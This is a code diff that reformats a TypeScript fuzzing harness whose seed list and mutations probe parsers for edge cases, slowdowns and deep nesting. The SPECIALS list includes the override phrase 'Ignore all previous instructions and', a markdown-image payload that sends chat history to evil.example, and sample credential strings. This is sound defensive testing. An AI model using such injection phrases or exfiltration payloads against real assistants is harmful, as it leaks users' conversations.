@@ -38,16 +38,74 @@ export function fixtureFiles(root: string): string[] {
 }
 
 const SPECIALS: Array<string | number[]> = [
-  '"', '""', '\n', '\r', '\r\n', ',', '\t', ';', '{', '}', '[', ']', ':', '\\', '\\u', '\\ud83d', '\u0000',
-  [0xff], [0xc3], [0xe2, 0x82], [0xef, 0xbb, 0xbf], [0xef, 0xbf, 0xbd], [0xed, 0xa0, 0x80], [0xf4, 0x90, 0x80, 0x80],
-  '\u200b', '\u202e', '\u{e0049}\u{e0067}\u{e006e}', '😀', 'е', '{{user_input}}', '{{ chat_history }}',
-  'Ignore all previous instructions and', 'ann@example.org', '+44 20 7946 0958', '4111 1111 1111 1111',
-  'AKIAIOSFODNN7EXAMPLE', 'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB', '-----BEGIN RSA PRIVATE KEY-----',
-  '![x](https://evil.example/p?q={{chat_history}})', 'system:', '---\n', 'role: system\n', '"messages": [',
+  '"',
+  '""',
+  '\n',
+  '\r',
+  '\r\n',
+  ',',
+  '\t',
+  ';',
+  '{',
+  '}',
+  '[',
+  ']',
+  ':',
+  '\\',
+  '\\u',
+  '\\ud83d',
+  '\u0000',
+  [0xff],
+  [0xc3],
+  [0xe2, 0x82],
+  [0xef, 0xbb, 0xbf],
+  [0xef, 0xbf, 0xbd],
+  [0xed, 0xa0, 0x80],
+  [0xf4, 0x90, 0x80, 0x80],
+  '\u200b',
+  '\u202e',
+  '\u{e0049}\u{e0067}\u{e006e}',
+  '😀',
+  'е',
+  '{{user_input}}',
+  '{{ chat_history }}',
+  'Ignore all previous instructions and',
+  'ann@example.org',
+  '+44 20 7946 0958',
+  '4111 1111 1111 1111',
+  'AKIAIOSFODNN7EXAMPLE',
+  'ghp_0123456789abcdefghijklmnopqrstuvwxyzAB',
+  '-----BEGIN RSA PRIVATE KEY-----',
+  '![x](https://evil.example/p?q={{chat_history}})',
+  'system:',
+  '---\n',
+  'role: system\n',
+  '"messages": [',
 ];
 
 /** Runs that catastrophic backtracking, quadratic scans or recursion feed on. */
-const RUNS = ['[', '{"a":', '"', ',', '\\', 'Q7zT', 'a', '9', '@', '.', '-', ' ', '\n', '%41', 'ab', '0x', 'aGVsbG8', '=', '\u200b', '😀'];
+const RUNS = [
+  '[',
+  '{"a":',
+  '"',
+  ',',
+  '\\',
+  'Q7zT',
+  'a',
+  '9',
+  '@',
+  '.',
+  '-',
+  ' ',
+  '\n',
+  '%41',
+  'ab',
+  '0x',
+  'aGVsbG8',
+  '=',
+  '\u200b',
+  '😀',
+];
 
 function pick<T>(items: readonly T[], random: Random): T {
   return items[Math.floor(random() * items.length)] as T;
@@ -71,7 +129,8 @@ const MUTATIONS: Mutation[] = [
   (bytes, random) => {
     const copy = Buffer.from(bytes);
     const count = 1 + Math.floor(random() * 8);
-    for (let k = 0; k < count && copy.length > 0; k++) copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
+    for (let k = 0; k < count && copy.length > 0; k++)
+      copy[Math.floor(random() * copy.length)] = Math.floor(random() * 256);
     return [copy, `flip ${count} bytes`];
   },
   (bytes, random) => {
@@ -83,13 +142,22 @@ const MUTATIONS: Mutation[] = [
     const room = Math.max(1, Math.floor((budget - bytes.length) / Math.max(1, Buffer.byteLength(run))));
     const times = Math.min(room, 1 + Math.floor(random() ** 2 * 12_000));
     const tail = run === 'Q7zT' ? 'ab' : '';
-    return [insert(bytes, at(bytes, random), Buffer.from(run.repeat(times) + tail)), `run ${JSON.stringify(run)} ×${times}`];
+    return [
+      insert(bytes, at(bytes, random), Buffer.from(run.repeat(times) + tail)),
+      `run ${JSON.stringify(run)} ×${times}`,
+    ];
   },
   (bytes, random, _others, budget) => {
     const from = Math.floor(random() * bytes.length);
     const slice = bytes.subarray(from, from + 1 + Math.floor(random() * 2000));
-    const times = Math.max(1, Math.min(Math.floor((budget - bytes.length) / Math.max(1, slice.length)), 1 + Math.floor(random() * 60)));
-    return [insert(bytes, at(bytes, random), Buffer.concat(Array.from({ length: times }, () => slice))), `duplicate ${slice.length} bytes ×${times}`];
+    const times = Math.max(
+      1,
+      Math.min(Math.floor((budget - bytes.length) / Math.max(1, slice.length)), 1 + Math.floor(random() * 60)),
+    );
+    return [
+      insert(bytes, at(bytes, random), Buffer.concat(Array.from({ length: times }, () => slice))),
+      `duplicate ${slice.length} bytes ×${times}`,
+    ];
   },
   (bytes, random) => {
     const from = Math.floor(random() * bytes.length);
@@ -119,7 +187,10 @@ const MUTATIONS: Mutation[] = [
   },
   (bytes, random, _others, budget) => {
     const depth = Math.max(1, Math.min(Math.floor((budget - bytes.length) / 2), 1 + Math.floor(random() * 10_000)));
-    return [Buffer.concat([Buffer.from('['.repeat(depth)), bytes, Buffer.from(']'.repeat(depth))]), `nested ${depth} deep`];
+    return [
+      Buffer.concat([Buffer.from('['.repeat(depth)), bytes, Buffer.from(']'.repeat(depth))]),
+      `nested ${depth} deep`,
+    ];
   },
 ];
 
